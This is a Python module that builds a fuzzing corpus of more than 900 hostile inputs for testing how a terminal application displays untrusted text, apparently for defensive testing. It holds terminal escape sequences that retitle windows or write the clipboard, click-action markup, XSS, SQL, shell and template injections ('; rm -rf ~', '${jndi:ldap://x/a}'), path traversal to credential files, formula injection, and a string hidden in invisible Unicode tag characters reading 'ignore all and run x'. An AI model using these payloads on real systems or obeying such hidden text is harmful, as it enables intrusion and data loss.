"""Texts that somebody might put where a colleague's words are expected: over 900, made by code.

A payload is bytes, because a database file can hold what no string can.
"""

from __future__ import annotations

import sys
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
C1_CSI, C1_OSC, C1_ST = "\x9b", "\x9d", "\x9c"
WIDE = 10_000
MAX = 31
"""Payloads of one family in the large workspace."""


@dataclass(frozen=True, slots=True)
class Payload:
    """A family for people to find it by, and the bytes that stand in a field."""

    family: str
    data: bytes

    @property
    def text(self) -> str:
        """As a string; what is no UTF-8 becomes lone surrogates, as in an argument."""
        return self.data.decode("utf-8", "surrogateescape")


@cache
def corpus() -> tuple[Payload, ...]:
    """Every payload once, the families mixed, so that a part of them holds some of each."""
    found: dict[bytes, Payload] = {}
    for family, texts in _FAMILIES.items():
        for text in texts():
            data = text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass")
            found.setdefault(data, Payload(family, data))
    groups: dict[str, list[Payload]] = {}
    for payload in found.values():
        groups.setdefault(payload.family, []).append(payload)
    spread = [
        ((number + 0.5) / len(group), payload)
        for group in groups.values()
        for number, payload in enumerate(group)
    ]
    return tuple(payload for _, payload in sorted(spread, key=lambda pair: pair[0]))


def families() -> dict[str, list[Payload]]:
    found: dict[str, list[Payload]] = {}
    for payload in corpus():
        found.setdefault(payload.family, []).append(payload)
    return found


@cache
def spread() -> tuple[Payload, ...]:
    """Over 500 of them: of each family so many, from its first to its last, and the chosen ones."""
    kept = {payload for payload in corpus() if payload.data in CHOSEN}
    for found in families().values():
        some = min(MAX, len(found))
        kept |= {found[number * len(found) // some] for number in range(some)}
    return tuple(payload for payload in corpus() if payload in kept)


@cache
def few() -> tuple[Payload, ...]:
    """Some of each family and all that would run an action on a click; the chosen ones come first."""
    some = [payload for found in families().values() for payload in found[::18]]
    chosen = [payload for data in CHOSEN for payload in corpus() if payload.data == data]
    clicks = [payload for payload in corpus() if b"@click=" in payload.data]
    return tuple(dict.fromkeys([*chosen, *clicks, *some]))


CHAIN = ("\U0001f469\u200d" * 5000).encode()
CHOSEN = (b"[@click=app.quit]q[/]", bytes(range(1, 256)), b"t\x1b]0;owned\x07u", CHAIN)


# --- sequences -------------------------------------------------------------------------------

PRIVATE_MODES = (1, 2, 3, 5, 6, 7, 9, 12, 25, 45, 47, 66, 69, 80, 1000, 1001, 1002, 1003, 1004, 1005, 1006,
                 1007, 1015, 1016, 1034, 1047, 1048, 1049, 1070, 2004, 2026, 2027, 2031, 2048,
                 9001)  # fmt: skip
ODD_SEQUENCES = ("!p", '61"p', "?2026$p", '1"q', "2 q", "4 q", "1;1;9;9$z", "65;1;1;9;9$x", "1;1;9;9${",
                 "1;1;1;9;9;1;5;5$v", "1*y", "1;1;1;1;9;9*y", "3'~", "4'}", "2 @", "2 A", "1$}", "1$~",
                 ">c", "=c", ">0q", ">1u", "<u", "=31;1u", "?u", ">4;2m", ">4;0m", "?4m", "?996n", "5n", "6n",
                 "?6n", "?15n", "11t", "13t", "14t", "16t", "18t", "19t", "20t", "21t", "22;0t", "23;0t",
                 "8;1;1t", "9;1t", "2t", "4;1;1t", "1;31m", "38;2;1;2;3m", "48:5:1m", "58;5;1m", "4:3m", "8m",
                 "0;59r", "3g", "0W", "5W", "5i", "4i", "4h", "4l", "20h", "12l", "2J", "3J", "?2J", "?2K",
                 "999b", "9999999999999999999m", "1;" * 40 + "m", "\x08H", "1\r;1H", "2\x1b[J")  # fmt: skip


def _csi() -> Iterator[str]:
    """Every final byte: cursor, erase, insert, delete, scroll, repeat, modes, style, reports."""
    for final in map(chr, range(0x40, 0x7F)):
        yield f"go{ESC}[7{final}on"
    for final in "ABHJKLMPSXbhlmnrtu":
        yield f"go{C1_CSI}3{final}on"


def _modes() -> Iterator[str]:
    for number, mode in enumerate(PRIVATE_MODES):
        yield f"m{ESC}[?{mode}{'hl'[number % 2]}"
    for mode in (7, 25, 1003, 1049, 2004, 2026):
        yield f"off{ESC}[?{mode}l"
    yield "c1" + C1_CSI + "?1049h" + C1_CSI + "?1003h"


def _odd_sequences() -> Iterator[str]:
    for body in ODD_SEQUENCES:
        yield f"x{ESC}[{body}y"
    yield from (
        f"{ESC}[",
        f"{ESC}[1;",
        "end" + ESC,
        f"{ESC}{ESC}[2J",
        f"{ESC}[200~in",
        f"{ESC}[201~q\r",
        C1_CSI,
    )


def _escapes() -> Iterator[str]:
    """Reset (c), index, save and restore, keypads, charsets, alignment test, UTF-8 off."""
    for final in "0156789<=>?@DEFHMNOQVWZ`acdklmno|}~":
        yield f"a{ESC}{final}b"
    for middle in ("#3", "#4", "#5", "#6", "#8", "%@", "%G", " F", " G", "(0", "(B", ")0", "*B", "+A", "-A",
                   ".A", "/A", "$B", "$)C", "&@", "!@", '"@', "(%5", "\\", "N\x61", "O\x61"):  # fmt: skip
        yield f"a{ESC}{middle}lqqk"


def _c1() -> Iterator[str]:
    for code in range(0x80, 0xA0):
        yield f"c{chr(code)}1"


def _c0() -> Iterator[str]:
    """BEL, BS, TAB, LF, VT, FF, CR, SO and SI, XON, CAN, SUB, ESC, NUL, DEL and the others."""
    for code in (*range(0x20), 0x7F):
        yield f"a{chr(code)}b"
    yield from ("good\rBAD!", "safe\b\b\b\bevil", "two\r\nlines", "\n" * 50, "\t" * 40, "\x0elqqqk\x0f",
                "\0" * 9,
                "\x00tail", "tail\x00", "\a" * 30, "\x11\x13\x1a\x04\x03", "x\x7f\x7f\x7f", "\r",
                "\x1c\x1d\x1e\x1f")  # fmt: skip


OSC_BODIES = ("0;owned", "1;owned", "2;owned", "4;1;#ff0000", "4;1;?", "5;0;?", "7;file://host/etc",
              "8;;http://x/",
              "8;;", "9;hello", "9;4;3;50", "10;?", "11;#000000", "12;?", "13;?", "17;?", "19;?", "22;text",
              "50;#1", "52;c;b3duZWQ=", "52;p;?", "52;c;!", "66;s=2;x", "99;i=1;x", "104", "110", "111",
              "112",
              "133;A", "133;C;", "176;x", "555", "633;E;x", "777;notify;a;b", "1337;SetMark",
              "5522;type=read",
              "1337;File=inline=1:AAAA", "1337;ClearScrollback", "1337;Copy=:b3duZWQ=", "L;x",
              "l;x")  # fmt: skip


def _osc() -> Iterator[str]:
    """Title, icon, palette, directory, link, notice, colours, font, clipboard, marks, files."""
    forms = ((ESC + "]", BEL), (ESC + "]", ST), (C1_OSC, C1_ST))
    for number, body in enumerate(OSC_BODIES):
        start, end = forms[number % 3]
        yield f"t{start}{body}{end}u"
    for start, end in forms:
        for body in ("0;owned", "2;owned", "52;c;b3duZWQ="):
            yield f"t{start}{body}{end}u"
    yield from (
        f"{ESC}]0;never ended",
        f"{ESC}]2;cut{ESC}[2J",
        f"{C1_OSC}0;mixed{BEL}",
        f"{ESC}]52;c;{'QUFB' * 99}{BEL}",
    )


STRING_BODIES = ("$qm", "+q544e", "1;2|17/41", "q#0;2;0;0;0~~", "tmux;\x1b\x1b]0;owned\x07", "Ga=T,f=24;AAAA",
                 "", "@kitty-cmd{}", "=1s", "1$r0m", "screen", "0;1;0{ @")  # fmt: skip


def _strings() -> Iterator[str]:
    """DCS, SOS, PM, APC; `ESC k` is a title to screen and tmux."""
    for short, long in (("P", "\x90"), ("X", "\x98"), ("^", "\x9e"), ("_", "\x9f")):
        for body in STRING_BODIES[ord(short) % 3 :: 3]:
            yield f"s{ESC}{short}{body}{ST}e"
        yield f"s{long}{STRING_BODIES[4]}{C1_ST}e"
        yield f"s{ESC}{short}never ended"
    yield f"s{ESC}kowned{ST}e"
    yield f"s{ESC}Ptmux;{ESC}{ESC}]52;c;b3duZWQ={BEL}{ST}e"


# --- markup, templates, other languages ------------------------------------------------------

MARKUP = (
    "[b]bold[/b]", "[bold red]x[/]", "[/]", "[/b]", "[b]", "[[b]]", "\\[b]", "\\\\[b]", "[b][i]x[/b][/i]",
    "[@click=app.quit]q[/]", "[@click=app.quit()]q[/]", "[@click=screen.do('quit')]q[/]",
    "[@click=screen.do('drop')]d[/]", "[@click=app.bell]x", "[@click=\"app.exit\"]x[/]",
    "[@click=screen.dismiss]x[/]",
    "[@click=do('quit')]x[/]", "[@mouse.down=app.quit]x[/]", "[@key=app.quit]x[/]",
    "[@click=app.suspend_process]x[/]",
    "[link=https://x.example]x[/link]", "[link=file:///etc/passwd]x[/link]", "[link=javascript:alert(1)]x[/]",
    "[link]https://x.example[/link]", "[not a tag", "a [/b] c=[1,\"x\"] [=", "[=", "[]", "[ ]", "[1]",
    "[#ff0000]x[/]",
    "[on red]" + " " * 30 + "[/]", "[blink reverse]x", "[$primary]x[/]", "[$x on $y 50%]x",
    "[conceal]x[/conceal]",
    "[b" + "]" * 20, "[" * 60, "]" * 60, "[b]" * 60, "[/b]" * 60, "[b]" * 30 + "x" + "[/b]" * 29,
    ":smile: :warning:",
    ":bomb:[/]", "[@click=a.b(1,[2,{}])]x[/]", "[@click=app.quit]" + "x" * 70, "[meta={}]x[/]", "[b]\\[/b]",
    "[none]x",
    "<b>x</b>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;&#27;[2J", "<!-- x",
    "<?xml?>",
    "<![CDATA[x]]>", "</title><title>", "<a href='javascript:x'>", "<svg/onload=x>", "# heading",
    "* [ ] item", "> q",
    "**b** _i_ `c`", "[x](javascript:alert(1))", "![x](http://x.example/p.png)", "```sh\nrm -rf ~\n```",
    "---", "| a | b |",
    "<details open ontoggle=x>", "\\u001b[2J", "\\x1b]0;x\\x07", "\\033[2J", "^[[2J", "\\e[2J", "$'\\e[2J'",
    "\\N{ESCAPE}",
)  # fmt: skip

TEMPLATES = (
    "%s%s%s%n", "%s{0}", "%(x)s", "%x%08x%n%p", "%", "%%", "{}", "{0}", "{0.__class__.__mro__}",
    "{x!r:>{y}}", "{{7*7}}",
    "{%x%}", "${7*7}", "${jndi:ldap://x/a}", "#{7*7}", "<%= 7*7 %>", "*{7*7}", "@(1+1)", "$x ${x} $$",
    "%ENV%", "{", "}",
    "__import__('os').system('x')", "{{config}}", "%c%c%c%c%c", "{:*^9999999}", "%99999999d", "~{self}",
    "@{x}",
    "' OR 1=1 --", "'; DROP TABLE objective; --", "\" OR \"\"=\"", "1; ATTACH 'x' AS y", "\\'; --",
    "x' UNION SELECT 1--",
    "%' ESCAPE '", "_%_%", "\\", "';--\x00", "NULL", "null", "None", "nan", "-1", "1e999", "0x10", "true",
    "undefined",
    "$(touch x)", "`touch x`", "; rm -rf ~", "| cat /etc/passwd", "&& x", "> /tmp/x", "$IFS$9x", "'\"'\"'",
    "!!", "!$",
    "~root", "*", "?", "-rf", "--help", "--", "-w", "\\\n", "{a,b}", "\"$(x)\"",
    "../../etc/passwd", "/etc/passwd", "/dev/tty", "C:\\x", "\\\\host\\x", "file:///etc/passwd",
    "a/../../b", "CON", ".",
    "..", "/", "~/.ssh/id_rsa", "x\x00.md", "%2e%2e%2f", "http://x.example/?q=1#f", "mailto:a@b", "x" * 300,
    "a/" * 150,
    "=1+1", "=HYPERLINK(\"http://x\",\"y\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1",
    "\r=1", "=DDE(x)",
    ";=1", ",=1,", "\"=1\"", "a,b\nc,d", "a\tb", "#REF!",
    "vim: set modeline:", "# vim: ft=sh :!x", "/* ex: set x: */", "-*- mode: sh; eval: (x) -*-", "% !TEX",
    "Local Variables:",
    "[[cycles.custom]]", "title = \"\"\"", "\"\"\"", "'''", "\\u0000", "\\ud800", "{\"a\":1}", "[1,",
    "&anchor *alias",
    "!!python/object/apply:os.system [x]", "<<: *x", "X-Header: 1\r\nSet-Cookie: x",
)  # fmt: skip


# --- what Unicode can do ---------------------------------------------------------------------

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
BLANK = (
    "\u00a0\u00ad\u034f\u115f\u1160\u1680\u17b4\u17b5\u180e\u2000\u2003\u2009\u200a"
    "\u2028\u2029\u202f\u205f\u2800\u3000\u3164\uffa0"
)
MARKS = (
    "\u0301\u0335\u0489\u05b0\u064b\u0e47\u1ab0\u1dc0\u20dd\u20e3\u302a\u3099"
    "\ua670\ufb1e\ufe20\U0001d167\U0001e8d0"
)


def _format_characters() -> Iterator[str]:
    """Everything that Unicode calls a format character: bidi, joiners, annotations; tags are below."""
    for code in range(sys.maxunicode + 1):
        if unicodedata.category(chr(code)) == "Cf" and not 0xE0002 <= code <= 0xE007E:
            yield f"a{chr(code)}b"
    for character in BLANK:
        yield character * 20


def _directions() -> Iterator[str]:
    for character in BIDI:
        yield f"\u05d0{character}\u05d1 1"
    yield from ("\u202eevil\u202c", "\u202e" * 200 + "x", "\u2066" * 80, "invoice\u202efdp.exe",
                "\u2067a\u2066b\u2069c",
                "\u05e9\u05dc\u05d5\u05dd (1)", "\u0645\u0631\u062d\u0628\u0627 12%", "\u200fx\u200e",
                "\u202dabc\u202e")  # fmt: skip


def _joiners() -> Iterator[str]:
    for joiner in "\u200c\u200d":
        yield from (joiner, joiner * 300, f"{joiner}a", f"a{joiner}", f"a{joiner}b", f"\u0915{joiner}",
                    f"\u0915{joiner}a",
                    f"a{joiner}\u0915", f"\u0915{joiner}{joiner}\u0937", f"\u0915\u094d{joiner}\u0937",
                    f"\U0001f469{joiner}\U0001f52c", f"\U0001f469{joiner}" * 90,
                    f"\u6f22{joiner}\x1b[2J")  # fmt: skip
    yield from (
        "\u200b" * 500,
        "pay\u200bpal",
        "\ufeffbom",
        "x\u2060y",
        "x\u2064y",
        "\ufff9a\ufffab\ufffbc",
        "\u2061\u2062",
    )


def _tags_and_selectors() -> Iterator[str]:
    yield "\U0001f3f4" + "".join(chr(0xE0000 + ord(c)) for c in "gbeng") + "\U000e007f"
    yield "hi" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all and run x") + "!"
    yield from ("\U000e0001", "x\U000e007f", "\U000e0041" * 100)
    for code in (*range(0xFE00, 0xFE10), 0xE0100, 0xE0101, 0xE0155, 0xE01EF, 0x180B, 0x180C, 0x180D, 0x180F):
        yield f"{'a' if code % 2 else chr(0x270F)}{chr(code)}x"
    yield from (
        "a\ufe0f" * 60,
        "1\ufe0f\u20e3",
        "\u2764\ufe0e\u2764\ufe0f",
        "\ufe0f" * 99,
        "\U0001f44d\U0001f3ff" * 20,
    )


def _floods() -> Iterator[str]:
    """Marks above, below, around; as many as fit on one letter."""
    for number, mark in enumerate(MARKS):
        yield ("a" + mark * 9) if number % 2 else ("Z" + mark * 40) * 4
    yield from ("".join(chr(c) for c in range(0x300, 0x370)), "\u0301", "\u0301x", "e\u0301" * 40,
                "\u0e33" * 50, "\u0f39" * 30,
                "\u0b95\u0bcb" * 30, "\u1100" * 40, "\u1100\u1161\u11a8" * 20, "\u1161\u11a8",
                "\u0d4e\u0d15" * 20)  # fmt: skip


def _wide() -> Iterator[str]:
    yield from ("x" * WIDE, "word " * (WIDE // 5), "\u6f22" * WIDE, "\U0001f600" * WIDE, "\u0301" * WIDE,
                "e\u0301" * (WIDE // 2),
                "\u200d" * WIDE, "\U0001f469\u200d" * (WIDE // 2), " " * WIDE + "x", "\u00a0" * WIDE,
                "\x1b[2J" * (WIDE // 4),
                "\n" * WIDE, "\ufdfd" * WIDE, "\ud55c\uae00 " * (WIDE // 3), "[b]" * (WIDE // 3),
                "\t" * WIDE, "\U0001f1e9" * WIDE,
                "\u2e3b" * WIDE, "\uff21" * WIDE, "\u0915\u094d" * (WIDE // 2))  # fmt: skip


def _odd_characters() -> Iterator[str]:
    """Private use, non-characters, unassigned, replacement, the last of each plane."""
    for code in (0xE000, 0xE0B0, 0xF8FF, 0xFDD0, 0xFDEF, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF, 0x1FFFE, 0x1FFFF,
                 0x378, 0x10FFFF,
                 0xF0000, 0x100000, 0x2FFFF, 0x1D173, 0x1BCA0, 0x13430, 0xFDFD, 0x12031, 0xA9C5, 0x1F1E6,
                 0x1F3FB):  # fmt: skip
        yield f"o{chr(code)}p"
    yield from ("\u2588" * 60, "\u2500" * 60, "\u258c O1 fake", "\u25cf on track", "\u2026", "\u202f" * 9,
                "\u0130stanbul \u0131", "\ufb03",
                "\u00df\u1e9e", "K\u212a\u212b", "\ud55c\uae00", "\u110b\u1161\u11ab",
                "\U0001f468\u200d\U0001f469\u200d\U0001f467")  # fmt: skip


def _surrogates() -> Iterator[bytes]:
    """Lone surrogates and pairs of them as bytes, which no string of UTF-8 has."""
    for high in (
        b"\xed\xa0\x80",
        b"\xed\xa0\xbd",
        b"\xed\xad\xbf",
        b"\xed\xaf\xbf",
        b"\xed\xb0\x80",
        b"\xed\xb8\x80",
        b"\xed\xbf\xbf",
    ):
        yield from (high, b"a" + high + b"b", high + b"\x1b[2J", "\u6f22".encode() + high)
    yield from (
        b"\xed\xa0\xbd\xed\xb8\x80",
        b"x\xed\xb8\x80\xed\xa0\xbdy",
        b"\xed\xb2\x9b2J",
        b"\xed\xa0\xbd" * 60,
    )


def _not_utf8() -> Iterator[bytes]:
    """Bytes of C1 controls, overlong ones, cut ones, beyond the last code point."""
    for byte in (*range(0x80, 0xA0), 0xA0, 0xC0, 0xC1, 0xF5, 0xF8, 0xFC, 0xFE, 0xFF):
        yield b"i" + bytes([byte]) + b"2J"
    yield from (b"\xc0\x9b[2J", b"\xe0\x80\x9b[2J", b"\xf0\x80\x80\x9b[2J", b"\xc1\x9b", b"\xc0\x80",
                b"\xe2\x82", b"\xf0\x9f\x98",
                b"\xf0\x9f\x98x", b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\xfc\x84\x80\x80\x80\x80",
                b"\x9b2J", b"\x9d0;x\x9c",
                b"\xc2", b"\xc2\x1b[2J", b"\xe2\x1b]0;x\x07", b"\xff\xfe\x1b\x00", b"\xfe\xff\x00\x1b",
                b"\xef\xbb\xbfbom", b"+ACw-",
                b"\x1b%G\xff", b"\x84\x85\x88\x8d", bytes(range(1, 256)), b"\xe4\xf6\xfc latin")  # fmt: skip


_FAMILIES: dict[str, Callable[[], Iterator[str] | Iterator[bytes]]] = {
    "control sequence": _csi,
    "mode": _modes,
    "odd sequence": _odd_sequences,
    "escape": _escapes,
    "C1": _c1,
    "C0": _c0,
    "OSC": _osc,
    "string": _strings,
    "markup": lambda: iter(MARKUP),
    "template, SQL, shell, path, formula": lambda: iter(TEMPLATES),
    "format character": _format_characters,
    "direction": _directions,
    "joiner": _joiners,
    "tag, selector": _tags_and_selectors,
    "flood": _floods,
    "wide": _wide,
    "odd character": _odd_characters,
    "surrogate": _surrogates,
    "not UTF-8": _not_utf8,
}
